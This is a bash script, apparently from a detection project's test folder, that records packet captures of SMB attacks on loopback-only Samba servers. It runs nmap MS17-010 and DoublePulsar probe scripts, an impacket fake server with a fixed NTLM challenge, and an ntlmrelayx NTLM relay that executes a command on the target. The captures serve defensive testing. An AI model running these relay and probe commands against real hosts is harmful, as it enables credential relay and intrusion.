#!/usr/bin/env bash
# make-attack-captures.sh — the attack captures real Debian tools can make.
#
# Run as root on Debian 12:   sudo test/captures/make-attack-captures.sh [OUTDIR]
#
# Captures (OUTDIR, default captures/; expected indicators in README-attacks.md):
#   attack-nmap-ms17-010-probe.pcap        nmap --script smb-vuln-ms17-010
#   attack-nmap-doublepulsar-probe.pcap    nmap --script smb-double-pulsar-backdoor
#   benign-nmap-smb-protocols.pcap         nmap --script smb-protocols,smb2-security-mode
#   attack-ntlm-fixed-challenge.pcap       smbclient -> impacket smbserver.py (challenge AAAAAAAA)
#   attack-ntlm-relay.pcap                 smbclient -> impacket ntlmrelayx.py -> Samba
# Samba is not vulnerable: the nmap scripts give the probe indicators only. The
# answers of a vulnerable or implanted server come from make-synthetic-attacks.py.
#
# Every server is bound to its own loopback address, every state folder is under
# one `mktemp -d`, traffic is recorded with tcpdump on lo, and the EXIT trap
# stops only the PIDs this script started. Nothing leaves 127.0.0.0/8.
#
# Environment: KEEP_WORK=1 keeps the temporary folder; PY=/usr/bin/python3.

set -euo pipefail
export LC_ALL=C

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$HERE/../.." && pwd)
OUT=$(realpath -m "${1:-$REPO/captures}")
PY=${PY:-/usr/bin/python3}
EXAMPLES=/usr/share/doc/python3-impacket/examples

USER_NAME=smbnegattack
USER_PASS=SmbNegAttack-2024
IP_SMB1=127.0.0.21      # Samba, server min protocol = NT1 (nmap's SMB1 scripts)
IP_TARGET=127.0.0.22    # Samba, signing not required: the relay target
IP_FAKE=127.0.0.23      # impacket smbserver.py (fixed challenge)
IP_RELAY=127.0.0.24     # impacket ntlmrelayx.py (the relay host)

log() { printf '[make-attack-captures] %s\n' "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

WORK=""
CREATED_USER=0
declare -a PIDS=()   # everything started, stopped in reverse order

stop_pid() {
    local pid=$1 i
    kill -0 "$pid" 2>/dev/null || { wait "$pid" 2>/dev/null || true; return 0; }
    kill "$pid" 2>/dev/null || true
    for i in $(seq 1 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    kill -0 "$pid" 2>/dev/null && kill -KILL "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}

# smbd leads its own process group (--foreground without --no-process-group);
# samba-dcerpcd and its workers carry our private smb.conf on their command line.
stop_smbd() {
    local pid=$1 conf=$2 p c
    stop_pid "$pid"
    for p in /proc/[0-9]*; do
        c=$( { tr '\0' ' ' < "$p/cmdline"; } 2>/dev/null ) || continue
        [[ -n $c && $c == *"$conf"* ]] && kill "${p#/proc/}" 2>/dev/null
    done
    return 0
}

declare -A SMBD_CONF=()
cleanup() {
    local rc=$? i
    set +e
    for (( i=${#PIDS[@]}-1; i>=0; i-- )); do
        if [[ -n ${SMBD_CONF[${PIDS[$i]}]:-} ]]; then
            stop_smbd "${PIDS[$i]}" "${SMBD_CONF[${PIDS[$i]}]}"
        else
            stop_pid "${PIDS[$i]}"
        fi
    done
    [[ $CREATED_USER == 1 ]] && userdel "$USER_NAME" 2>/dev/null
    if [[ -n $WORK && -d $WORK ]]; then
        if [[ ${KEEP_WORK:-0} == 1 ]]; then log "kept $WORK"; else rm -rf -- "$WORK"; fi
    fi
    exit $rc
}

ensure_tools() {
    local -a missing=()
    command -v smbd >/dev/null || missing+=(samba)
    command -v smbclient >/dev/null || missing+=(smbclient)
    command -v tcpdump >/dev/null || missing+=(tcpdump)
    command -v nmap >/dev/null || missing+=(nmap)
    command -v ss >/dev/null || missing+=(iproute2)
    [[ -f $EXAMPLES/ntlmrelayx.py ]] || missing+=(python3-impacket)
    if (( ${#missing[@]} )); then
        log "installing: ${missing[*]}"
        local made_policy=0
        if [[ ! -e /usr/sbin/policy-rc.d ]]; then
            printf '#!/bin/sh\nexit 101\n' > /usr/sbin/policy-rc.d; chmod +x /usr/sbin/policy-rc.d
            made_policy=1
        fi
        apt-get update
        DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${missing[@]}"
        [[ $made_policy == 1 ]] && rm -f /usr/sbin/policy-rc.d
    fi
    return 0
}

wait_listen() {   # wait_listen IP PID WHAT
    local i
    for i in $(seq 1 100); do
        ss -Hltn "sport = :445" | awk '{print $4}' | grep -qxF "$1:445" && return 0
        kill -0 "$2" 2>/dev/null || die "$3 died (see $WORK)"
        sleep 0.1
    done
    die "$3 does not listen on $1:445"
}

# start_smbd NAME IP [smb.conf lines...]
start_smbd() {
    local name=$1 ip=$2; shift 2
    local d="$WORK/smbd-$name" line
    mkdir -p "$d"/{lock,state,cache,private,pid,log,ncalrpc,binddns,share}
    chmod 0755 "$d" "$d/share"
    echo "hello from $name" > "$d/share/readme.txt"
    {
        printf '[global]\n'
        printf '    %s\n' "workgroup = SMBNEG" "netbios name = ATTACK-$name" \
            "server role = standalone server" "interfaces = $ip/8" "bind interfaces only = yes" \
            "smb ports = 445" "disable netbios = yes" "map to guest = bad user" \
            "passdb backend = tdbsam:$d/private/passdb.tdb" "lock directory = $d/lock" \
            "state directory = $d/state" "cache directory = $d/cache" "private dir = $d/private" \
            "pid directory = $d/pid" "ncalrpc dir = $d/ncalrpc" "binddns dir = $d/binddns" \
            "log file = $d/log/log.%m" "load printers = no" "printing = bsd" \
            "printcap name = /dev/null" "disable spoolss = yes" "kernel oplocks = no"
        for line in "$@"; do printf '    %s\n' "$line"; done
        printf '[share]\n    path = %s\n    read only = yes\n    guest ok = yes\n' "$d/share"
    } > "$d/smb.conf"
    printf '%s\n%s\n' "$USER_PASS" "$USER_PASS" |
        smbpasswd -c "$d/smb.conf" -a -s "$USER_NAME" >"$d/smbpasswd.out" 2>&1 ||
        { cat "$d/smbpasswd.out" >&2; die "smbpasswd failed for $name"; }
    smbd --foreground -s "$d/smb.conf" </dev/null >"$d/smbd.out" 2>&1 &
    local pid=$!
    PIDS+=("$pid"); SMBD_CONF[$pid]="$d/smb.conf"
    wait_listen "$ip" "$pid" "smbd $name"
    log "smbd $name (pid $pid) on $ip $*"
}

CAP_PID="" CAP_ERR=""
cap_start() {   # cap_start FILE FILTER
    CAP_ERR="$WORK/tcpdump.$1.err"
    tcpdump -i lo -n -U --immediate-mode -B 65536 -Z root -w "$OUT/$1" "$2" 2>"$CAP_ERR" &
    CAP_PID=$!; PIDS+=("$CAP_PID")
    local i
    for i in $(seq 1 50); do grep -q 'listening on' "$CAP_ERR" && return 0; sleep 0.1; done
    cat "$CAP_ERR" >&2; die "tcpdump did not start for $1"
}
cap_stop() {
    sleep 0.5
    stop_pid "$CAP_PID"
    grep -q '^0 packets dropped by kernel' "$CAP_ERR" || { cat "$CAP_ERR" >&2; die "tcpdump dropped packets"; }
}

nmap_run() {   # nmap_run FILE IP SCRIPTS
    cap_start "$1" "host $2 and tcp port 445"
    timeout 120 nmap -n -Pn -p445 --script "$3" "$2" > "$WORK/$1.nmap.txt" 2>&1 || true
    cap_stop
    log "$1: $(grep -c . "$WORK/$1.nmap.txt") lines of nmap output"
    sed 's/^/    nmap| /' "$WORK/$1.nmap.txt" | grep -E '\|' >&2 || true
}

# A Python wrapper that binds the outgoing connection to the target to
# IP_RELAY, so the relay host is one address on both sides (as it is on a
# network), then runs ntlmrelayx.py unchanged (its console's stdin never ends). Debian 12 lacks dsinternals,
# which only ntlmrelayx's LDAP attack uses: its imports get empty stand-ins.
relay_wrapper() {
    cat > "$WORK/relay-bind.py" <<EOF
import importlib.abc, importlib.machinery, runpy, socket, sys, threading, types
class NoDsinternals(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] == "dsinternals":
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        m = types.ModuleType(spec.name)
        m.__path__ = []
        m.__getattr__ = lambda attr: type(attr, (), {})
        return m
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, NoDsinternals())
class Forever:  # ntlmrelayx serves until stdin ends; we stop it by PID instead
    def read(self, *args):
        threading.Event().wait()
sys.stdin = Forever()
_connect = socket.socket.connect
def connect(self, addr):
    if self.family == socket.AF_INET and addr[0] == "$IP_TARGET":
        self.bind(("$IP_RELAY", 0))
    return _connect(self, addr)
socket.socket.connect = connect
sys.argv = ["ntlmrelayx.py"] + sys.argv[1:]
runpy.run_path("$EXAMPLES/ntlmrelayx.py", run_name="__main__")
EOF
}

scenario_relay() {
    relay_wrapper
    cap_start attack-ntlm-relay.pcap "tcp port 445 and (host $IP_RELAY or host $IP_TARGET)"
    "$PY" "$WORK/relay-bind.py" -t "smb://$IP_TARGET" -smb2support -ip "$IP_RELAY" \
        --no-http-server --no-wcf-server --no-raw-server --no-multirelay -c 'echo relayed' \
        > "$WORK/ntlmrelayx.out" 2>&1 < /dev/null &
    local pid=$!; PIDS+=("$pid")
    wait_listen "$IP_RELAY" "$pid" ntlmrelayx
    timeout 30 smbclient "//$IP_RELAY/share" -U "$USER_NAME%$USER_PASS" -c ls \
        > "$WORK/victim.out" 2>&1 || true
    sleep 2
    cap_stop
    stop_pid "$pid"
    log "relay: victim said: $(head -c 200 "$WORK/victim.out" | tr '\n' ' ')"
    grep -E 'Authenticating|SUCCEED|FAIL|relay' "$WORK/ntlmrelayx.out" | sed 's/^/    ntlmrelayx| /' >&2 || true
}

scenario_fixed_challenge() {
    mkdir -p "$WORK/fake-share"
    cap_start attack-ntlm-fixed-challenge.pcap "host $IP_FAKE and tcp port 445"
    "$PY" "$EXAMPLES/smbserver.py" -ip "$IP_FAKE" -smb2support SHARE "$WORK/fake-share" \
        > "$WORK/smbserver.out" 2>&1 < /dev/null &
    local pid=$!; PIDS+=("$pid")
    wait_listen "$IP_FAKE" "$pid" smbserver.py
    timeout 30 smbclient "//$IP_FAKE/SHARE" -U "$USER_NAME%$USER_PASS" -c ls \
        > "$WORK/fake-client.out" 2>&1 || true
    cap_stop
    stop_pid "$pid"
    grep -E 'AUTHENTICATE|authenticated|::' "$WORK/smbserver.out" | head -3 | sed 's/^/    smbserver| /' >&2 || true
}

main() {
    [[ $(id -u) == 0 ]] || die "run as root (tcpdump, smbd, port 445)"
    ensure_tools
    mkdir -p "$OUT"
    WORK=$(mktemp -d /tmp/make-attack-captures.XXXXXX)
    chmod 0755 "$WORK"
    trap cleanup EXIT
    if ! id "$USER_NAME" >/dev/null 2>&1; then
        useradd -M -s /usr/sbin/nologin "$USER_NAME"; CREATED_USER=1
    fi
    start_smbd smb1 "$IP_SMB1" "server min protocol = NT1"
    start_smbd target "$IP_TARGET" "server signing = auto"
    nmap_run attack-nmap-ms17-010-probe.pcap "$IP_SMB1" smb-vuln-ms17-010
    nmap_run attack-nmap-doublepulsar-probe.pcap "$IP_SMB1" smb-double-pulsar-backdoor
    nmap_run benign-nmap-smb-protocols.pcap "$IP_SMB1" smb-protocols,smb2-security-mode
    scenario_fixed_challenge
    scenario_relay
    log "done: $(cd "$OUT" && ls attack-nmap-* attack-ntlm-* benign-nmap-* | tr '\n' ' ')"
}

main "$@"
